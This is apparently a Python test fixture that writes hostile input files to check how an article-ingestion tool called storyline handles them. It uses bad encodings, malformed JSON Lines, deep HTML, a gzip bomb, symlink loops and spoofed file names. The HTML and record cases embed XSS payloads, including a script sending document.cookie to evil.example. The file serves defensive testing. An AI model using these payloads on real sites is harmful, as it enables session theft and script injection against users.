"""A directory of hostile inputs, written at test time, with what storyline must do with each.

``build(folder)`` writes every case and returns them; each ``Case`` says which file (and, for
JSON Lines, which line) it is and the expected outcome: an article (with checks on it) or a
rejection with a given reason. The 100 MB files are made only when asked (``big=True``)."""

from __future__ import annotations

import gzip
import json
import os
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

UK = ("Уряд України ухвалив рішення про відбудову мостів у Харківській області. Роботи "
      "почнуться навесні, а фінансування передбачено в державному бюджеті на наступний рік. "
      "Міністр інфраструктури сказав, що першими відновлять мости на трасі до Ізюма.")
RU = ("Правительство объявило о новых мерах поддержки экспортёров зерна в этом году. Пошлины "
      "снизят с первого числа следующего месяца, а квоты распределят между регионами. "
      "Министр сельского хозяйства заявил, что урожай окажется выше прошлогоднего.")
EN = ("The city council approved a new budget for public transport on Tuesday, adding forty "
      "buses and two tram lines. The mayor said fares would stay the same until next summer, "
      "and the first new buses are expected on the streets in March.")

MB = 1024 * 1024


@dataclass
class Case:
    name: str  # file name inside the folder (with sub-folders), as written
    what: str  # one line for the reliability table
    reason: str | None = None  # expected rejection reason; None: an article
    line: int | None = None  # JSON Lines line number, when the case is one record
    check: Callable | None = None  # check(article) for an ingested case
    detail: str | None = None  # a substring the rejection's detail must contain
    expected_id: str | None = None

    @property
    def expect(self) -> str:
        return f"rejected: {self.reason}" if self.reason else "ingested"


def page(title: str, body: str) -> str:
    """A scraped plain-text page: headline, blank line, body."""
    return f"{title}\n\n{body}\n"


def html_page(title: str, body: str) -> str:
    return (f"<html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
            f"<p>{body}</p><p>{body}</p></article></body></html>")


def _png() -> bytes:
    raw = b"".join(b"\x00" + bytes(range(i, i + 96)) for i in range(64))
    chunk = lambda kind, data: (struct.pack(">I", len(data)) + kind + data  # noqa: E731
                                + struct.pack(">I", zlib.crc32(kind + data)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 32, 64, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _zip(rng: random.Random) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("article.txt", UK * 20)
        archive.writestr("photo.bin", rng.randbytes(4096))
    return buffer.getvalue()


def _elf(rng: random.Random) -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 62, 1)
    return header + b"\x00" * 40 + rng.randbytes(6000) + b"\n{\"id\": \"x\"}\n" + rng.randbytes(2000)


def _title_is(expected: str):
    def check(article):
        assert article.title == expected, article.title
    return check


def _text_has(*parts: str, absent: tuple[str, ...] = ()):
    def check(article):
        for part in parts:
            assert part in article.text, (part, article.text[:300])
        for bad in absent:
            assert bad not in article.text and bad not in (article.title or "")
    return check


def _clean_title(*parts: str):
    """Title keeps its letters, RTL letters included, and loses every invisible control."""
    invisible = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), 0x7f, 0x200b, 0x200e,
                                  0x200f, *range(0x202a, 0x202f), *range(0x2066, 0x206a), 0xfeff)]

    def check(article):
        for part in parts:
            assert part in article.title, (part, article.title)
        for ch in invisible:
            assert ch not in article.title, (hex(ord(ch)), article.title)
            assert ch not in article.text, (hex(ord(ch)), article.text[:200])
    return check


def _records(cases: list[Case], name: str, lines: list[tuple[str, str, str | None, str | None]]):
    """lines: (json text, what, expected reason, detail substring)."""
    for number, (_, what, reason, detail) in enumerate(lines, start=1):
        if what:
            cases.append(Case(name, what, reason=reason, line=number, detail=detail))
    return "\n".join(text for text, *_ in lines) + "\n"


def build(folder: Path, *, big: bool = False) -> list[Case]:
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []
    # Seeded: the same bytes every run, so the outcome table in docs/reliability.md is stable.
    rng = random.Random(7)

    def put(name: str, data: bytes | str, case: Case | None = None, encoding="utf-8") -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
        if case is not None:
            cases.append(case)
        return path

    # -- binary files under text names ------------------------------------------------------
    put("binary/photo.txt", _png(), Case("binary/photo.txt", "PNG image named .txt",
                                         "undecodable"))
    put("binary/archive.html", _zip(rng), Case("binary/archive.html", "ZIP archive named .html",
                                            "undecodable"))
    put("binary/program.jsonl", _elf(rng), Case("binary/program.jsonl",
                                             "ELF executable named .jsonl", "undecodable"))
    put("binary/random.txt", rng.randbytes(50_000),
        Case("binary/random.txt", "random bytes named .txt", "undecodable"))

    # -- encodings ----------------------------------------------------------------------------
    truncated = page("Мости на Харківщині відновлять навесні", UK).encode()
    put("enc/truncated_utf8.txt", truncated + "Ї".encode()[:1],
        Case("enc/truncated_utf8.txt", "UTF-8 cut inside the last character",
             check=_text_has("мостів у Харківській", absent=("\ufffd",))))
    put("enc/cp1251.txt", page("Правительство поддержит экспортёров зерна", RU), encoding="cp1251",
        case=Case("enc/cp1251.txt", "Russian in cp1251", check=_text_has("экспортёров зерна")))
    put("enc/koi8r.txt", page("Правительство поддержит экспортёров зерна", RU), encoding="koi8-r",
        case=Case("enc/koi8r.txt", "Russian in koi8-r", check=_text_has("экспортёров зерна")))
    mixed = (page("Мости на Харківщині відновлять навесні", UK).encode("utf-8")
             + ("\n" + RU + "\n").encode("cp1251"))
    put("enc/mixed_utf8_cp1251.txt", mixed,
        Case("enc/mixed_utf8_cp1251.txt", "UTF-8 lines and cp1251 lines in one file",
             check=_text_has("мостів у Харківській", "экспортёров зерна")))
    put("enc/utf16_bom.txt", page("Мости на Харківщині відновлять навесні", UK), encoding="utf-16",
        case=Case("enc/utf16_bom.txt", "UTF-16 with BOM", check=_text_has("мостів у Харківській")))
    put("enc/utf16le_nobom.txt", page("Правительство поддержит экспортёров", RU),
        encoding="utf-16-le", case=Case("enc/utf16le_nobom.txt", "UTF-16-LE without BOM",
                                        check=_text_has("экспортёров зерна")))
    put("enc/utf16be_nobom.html", html_page("City council approves transport budget", EN),
        encoding="utf-16-be", case=Case("enc/utf16be_nobom.html", "HTML in UTF-16-BE without BOM",
                                        check=_text_has("forty buses")))
    utf16_records = "\n".join(json.dumps({"id": f"u16-{i}", "text": RU, "lang": "ru"},
                                         ensure_ascii=False) for i in range(2))
    put("enc/records_utf16.jsonl", utf16_records, encoding="utf-16")
    cases += [Case("enc/records_utf16.jsonl", "JSON Lines in UTF-16 with BOM", line=i + 1,
                   expected_id=f"u16-{i}", check=_text_has("экспортёров зерна"))
              for i in range(2)]

    # -- empty ----------------------------------------------------------------------------------
    put("empty/empty.txt", b"", Case("empty/empty.txt", "empty .txt", "empty"))
    put("empty/blank.html", " \n\t\r\n  \n", Case("empty/blank.html", "whitespace-only .html",
                                                  "empty"))
    put("empty/empty.jsonl", b"", Case("empty/empty.jsonl", "empty .jsonl", "empty"))
    put("empty/blank.jsonl", "\n\n   \n", Case("empty/blank.jsonl", "blank lines only .jsonl",
                                               "empty"))
    put("empty/nul_only.txt", b"\x00" * 1000, Case("empty/nul_only.txt", "only NUL bytes",
                                                   "undecodable"))

    # -- HTML -------------------------------------------------------------------------------------
    deep = ("<html><body>" + "<div>" * 100_000 + f"<p>{EN}</p>" + "</div>" * 100_000
            + "</body></html>")
    put("html/deep_divs.html", deep, Case("html/deep_divs.html", "100,000 nested <div>s",
                                          check=_text_has("forty buses")))
    unclosed = ("<html><head><title>Мости відновлять навесні</title><body><div><p>" + UK + "<p>" + UK
                + "<div><span><b><i>" + "<table><tr><td>" * 50 + "</html")
    put("html/unclosed.html", unclosed, Case("html/unclosed.html", "unclosed tags everywhere",
                                             check=_text_has("мостів у Харківській")))
    garbage = "<<<>>><!-- <x <!DOCTYPE <?php ?> </div></div>< p >&&&#xZZZ;&#99999999;" * 40
    put("html/garbage.html", garbage, Case("html/garbage.html", "angle-bracket garbage",
                                           "no_content"))
    put("html/nul_in_html.html", html_page("Мости відновлять навесні", UK).replace("<p>", "<p>\x00"),
        Case("html/nul_in_html.html", "NUL bytes inside HTML",
             check=_text_has("мостів у Харківській", absent=("\x00",))))
    script_page = html_page("Мости відновлять навесні", UK).replace(
        "<title>", "<title>&lt;script&gt;alert(1)&lt;/script&gt; ").replace(
        "</body>", "<script>document.location='http://evil.example/'+document.cookie</script>"
                   "<a href=\"javascript:alert(1)\">click</a></body>")
    put("html/script.html", script_page,
        Case("html/script.html", "<script> in HTML and an escaped one in its <title>",
             check=_text_has("мостів у Харківській", absent=("document.cookie",))))

    # -- JSON Lines -------------------------------------------------------------------------------
    good = {"text": UK, "lang": "uk", "published": "2025-03-01T10:00:00+02:00"}
    text = _records(cases, "records/wrong_types.jsonl", [
        (json.dumps({**good, "id": "rec-ok"}, ensure_ascii=False), "", None, None),
        (json.dumps({**good, "id": "t-num", "title": 42}), "title is a number", "bad_record",
         'field "title"'),
        (json.dumps({**good, "id": "t-list", "title": ["a", "b"]}), "title is a list",
         "bad_record", 'field "title"'),
        (json.dumps({**good, "id": "p-obj", "published": {"date": "2025-03-01"}}),
         "published is an object", "bad_record", 'field "published"'),
        (json.dumps({"id": "no-text", "title": "Мости"}, ensure_ascii=False), "text missing",
         "bad_record", '"text" or "html"'),
        (json.dumps({"id": "null-text", "text": None}), "text null", "bad_record",
         '"text" or "html"'),
        ('"just a string"', "line is a JSON string", "bad_record", "expected a JSON object"),
        ("[1, 2, 3]", "line is a JSON array", "bad_record", "expected a JSON object"),
        ("42", "line is a number", "bad_record", "expected a JSON object"),
        ('{"id": "x", "text": "abc",}', "trailing comma", "bad_record", "not valid JSON"),
        ("{'id': 'x'}", "single quotes", "bad_record", "not valid JSON"),
        ('{"id": "cut", "text": "Уряд', "line cut short", "bad_record", "not valid JSON"),
        ("[" * 100_000 + "]" * 100_000, "100,000 nested arrays", "bad_record", "nest"),
        ('{"id": ' + "9" * 5000 + ', "text": "x"}', "5,000-digit id", "bad_record", "digits"),
        (json.dumps({**good, "id": "bad-date", "published": "2025-13-45T99:00"}),
         "published not a date", "bad_record", '"published"'),
        (json.dumps({**good, "id": "huge-year", "published": "99999999999999999999"}),
         "published an absurd number", "bad_record", '"published"'),
        (json.dumps({**good, "id": "short", "text": "Коротко."}, ensure_ascii=False),
         "text too short", "too_short", "characters"),
        (json.dumps({**good, "id": ["a"]}), "id is a list", "bad_record", 'field "id"'),
    ])
    put("records/wrong_types.jsonl", text)
    cases.append(Case("records/wrong_types.jsonl", "a good record among bad ones", line=1,
                      expected_id="rec-ok"))

    rtl = "\u05d7\u05d3\u05e9\u05d5\u05ea \u0623\u062e\u0628\u0627\u0631"  # Hebrew + Arabic letters
    text = _records(cases, "records/invisible.jsonl", [
        (json.dumps({**good, "id": "ctl", "title": "Мости\x00 від\x07новлять\x1b[31m навесні",
                     "text": UK.replace(". ", ".\x00\x08 ", 1)}, ensure_ascii=False),
         "", None, None),
        (json.dumps({**good, "id": "bidi", "title": "Мости \u202eнавесні\u202c \u2067x\u2069 "
                                                    "\u200fвідновлять\u200e"},
                    ensure_ascii=False), "", None, None),
        (json.dumps({**good, "id": "zw", "title": "Мос\u200bти\ufeff від\u2060новлять",
                     "text": UK.replace("мостів", "мос\u200bтів")}, ensure_ascii=False),
         "", None, None),
        (json.dumps({**good, "id": "rtl", "title": f"Мости і {rtl}"}, ensure_ascii=False),
         "", None, None),
    ])
    put("records/invisible.jsonl", text)
    cases += [
        Case("records/invisible.jsonl", "NUL, BEL, ESC in title and text", line=1,
             expected_id="ctl", check=_clean_title("Мости", "відновлять")),
        Case("records/invisible.jsonl", "bidi overrides, isolates, RLM/LRM in title", line=2,
             expected_id="bidi", check=_clean_title("Мости", "навесні", "відновлять")),
        Case("records/invisible.jsonl", "zero-width space, BOM, word joiner in title and text",
             line=3, expected_id="zw",
             check=lambda a: (_clean_title("Мости відновлять")(a), _text_has("мостів у")(a))),
        Case("records/invisible.jsonl", "Hebrew and Arabic letters in title", line=4,
             expected_id="rtl", check=_title_is(f"Мости і {rtl}")),
    ]

    injected = '<script>alert("x")</script><img src=x onerror=alert(1)> Мости відновлять'
    text = _records(cases, "records/injection.jsonl", [
        (json.dumps({**good, "id": "xss", "title": injected, "url": "javascript:alert(1)",
                     "source": "<b>Evil</b>"}, ensure_ascii=False), "", None, None),
    ])
    put("records/injection.jsonl", text)

    def injection_kept_as_text(article):
        assert article.title == injected  # data, not markup: escaping is the renderer's job
        assert article.url is None  # never a javascript: link
        assert article.raw.fields["url"] == "javascript:alert(1)"  # what the user gave is kept
        assert ("javascript:alert(1)", "unsafe_url") in article.removed
    cases.append(Case("records/injection.jsonl", "<script>, onerror= and javascript: URL",
                      line=1, expected_id="xss", check=injection_kept_as_text))

    put("records/nul_bytes.txt", page("Мости\x00 відновлять навесні", UK.replace(" ", "\x00 ", 3)),
        Case("records/nul_bytes.txt", "a few NUL bytes in a text page",
             check=_clean_title("Мости", "відновлять")))
    put("records/controls.txt", page("Мости \x1b[2J\x08відновлять\u202e навесні", UK),
        Case("records/controls.txt", "terminal escapes and RLO in a text page",
             check=_clean_title("Мости", "відновлять", "навесні")))

    # -- gzip -------------------------------------------------------------------------------------
    packed = gzip.compress(page("Мости відновлять навесні", UK).encode())
    put("gz/truncated.txt.gz", packed[: len(packed) // 2],
        Case("gz/truncated.txt.gz", "gzip cut in half", "undecodable", detail="gzip"))
    put("gz/not_gzip.txt.gz", page("Мости відновлять навесні", UK),
        Case("gz/not_gzip.txt.gz", "plain text named .gz", "undecodable", detail="gzip"))
    records = "\n".join(json.dumps({"id": f"gz-{i}", "text": UK}, ensure_ascii=False)
                        for i in range(40)).encode()
    packed = gzip.compress(records)
    put("gz/truncated.jsonl.gz", packed[: len(packed) * 2 // 3])
    cases.append(Case("gz/truncated.jsonl.gz", "JSON Lines gzip cut short (records before "
                      "the cut are kept)", "undecodable", detail="gzip"))
    cases.append(Case("gz/truncated.jsonl.gz", "first record of a cut gzip", line=1,
                      expected_id="gz-0"))
    put("gz/bomb.txt.gz", gzip.compress(b"a" * (40 * MB), 9),
        Case("gz/bomb.txt.gz", "gzip bomb (40 KB -> 40 MB)", "too_large", detail="max_document_bytes"))

    # -- file system ------------------------------------------------------------------------------
    loop = folder / "fs" / "loop"
    loop.mkdir(parents=True, exist_ok=True)
    (loop / "again").symlink_to(loop, target_is_directory=True)
    cases.append(Case("fs/loop/again", "directory symlink back to its parent", "symlink_loop"))
    (folder / "fs" / "self.txt").symlink_to(folder / "fs" / "self.txt")
    cases.append(Case("fs/self.txt", "file symlink to itself", "unreadable", detail="loop"))
    (folder / "fs" / "dangling.txt").symlink_to(folder / "fs" / "nowhere.txt")
    cases.append(Case("fs/dangling.txt", "dangling symlink", "not_found"))
    (folder / "fs" / "endless.txt").symlink_to("/dev/zero")
    cases.append(Case("fs/endless.txt", "symlink to /dev/zero", "unreadable",
                      detail="not a regular file"))
    os.mkfifo(folder / "fs" / "pipe.txt")
    cases.append(Case("fs/pipe.txt", "named pipe (FIFO) named .txt", "unreadable",
                      detail="not a regular file"))
    locked = put("fs/locked.txt", page("Мости відновлять навесні", UK))
    locked.chmod(0)
    if os.access(locked, os.R_OK):  # root reads it anyway: then it must simply be ingested
        cases.append(Case("fs/locked.txt", "chmod 000 file (readable: running as root)",
                          check=_text_has("мостів у Харківській")))
    else:
        cases.append(Case("fs/locked.txt", "chmod 000 file", "unreadable"))

    # -- names ------------------------------------------------------------------------------------
    for name, what in [
        ("names/новина 📰 № 1.txt", "Cyrillic, emoji and spaces in the name"),
        ("names/e\u0301vénement.txt", "decomposed accent (NFD) in the name"),
        ("names/evil\u202etxt.exe.txt", "RLO in the name"),
        ("names/line\nbreak.txt", "newline in the name"),
    ]:
        put(name, page("Мости відновлять навесні", UK),
            Case(name, what, check=_text_has("мостів у Харківській")))
    raw_name = os.fsencode(folder / "names") + b"/latin1-caf\xe9.txt"
    with open(raw_name, "wb") as fh:
        fh.write(page("Мости відновлять навесні", UK).encode())
    cases.append(Case(os.fsdecode(b"names/latin1-caf\xe9.txt"), "name not valid UTF-8 (byte 0xE9)",
                      check=_text_has("мостів у Харківській"), expected_id="latin1-caf\\xe9"))

    # -- size ---------------------------------------------------------------------------------------
    long_line = (UK + " ") * (2 * MB // len((UK + " ").encode()))
    put("size/one_long_line.txt", "Мости відновлять навесні\n\n" + long_line.replace("\n", " "),
        Case("size/one_long_line.txt", "2 MB page in one line",
             check=_text_has("мостів у Харківській")))
    if big:
        write_big_text(folder / "size" / "big.txt")
        cases.append(Case("size/big.txt", "100 MB text file", "too_large",
                          detail="max_document_bytes"))
        write_big_record(folder / "size" / "big_line.jsonl")
        cases.append(Case("size/big_line.jsonl", "100 MB single JSON Lines record", "too_large",
                          line=1, detail="max_document_bytes"))
        cases.append(Case("size/big_line.jsonl", "record after a 100 MB one", line=2,
                          expected_id="after-big"))
    return cases


def write_big_text(path: Path, size: int = 100 * MB) -> None:
    """A plausible text file of ``size`` bytes, written in chunks (never whole in memory)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    block = (UK + "\n").encode() * 256
    with open(path, "wb") as fh:
        fh.write("Мости відновлять навесні\n\n".encode())
        for _ in range(size // len(block) + 1):
            fh.write(block)


def write_big_record(path: Path, size: int = 100 * MB) -> None:
    """One JSON Lines record of ``size`` bytes on a single line, then a small good record."""
    path.parent.mkdir(parents=True, exist_ok=True)
    chunk = json.dumps(UK, ensure_ascii=False)[1:-1].encode() * 256
    with open(path, "wb") as fh:
        fh.write(b'{"id": "big-record", "text": "')
        for _ in range(size // len(chunk) + 1):
            fh.write(chunk)
        fh.write(b'"}\n')
        fh.write(json.dumps({"id": "after-big", "text": UK, "lang": "uk"},
                            ensure_ascii=False).encode() + b"\n")


GOOD = {
    "good/uk_bridges.txt": page("Мости на Харківщині відновлять навесні", UK),
    "good/ru_grain.txt": page("Правительство поддержит экспортёров зерна", RU),
    "good/en_buses.html": html_page("City council approves transport budget", EN),
}


def write_good(folder: Path) -> dict[str, str]:
    """A few ordinary articles that must come through whatever is beside them."""
    for name, text in GOOD.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return {name: Path(name).stem for name in GOOD}
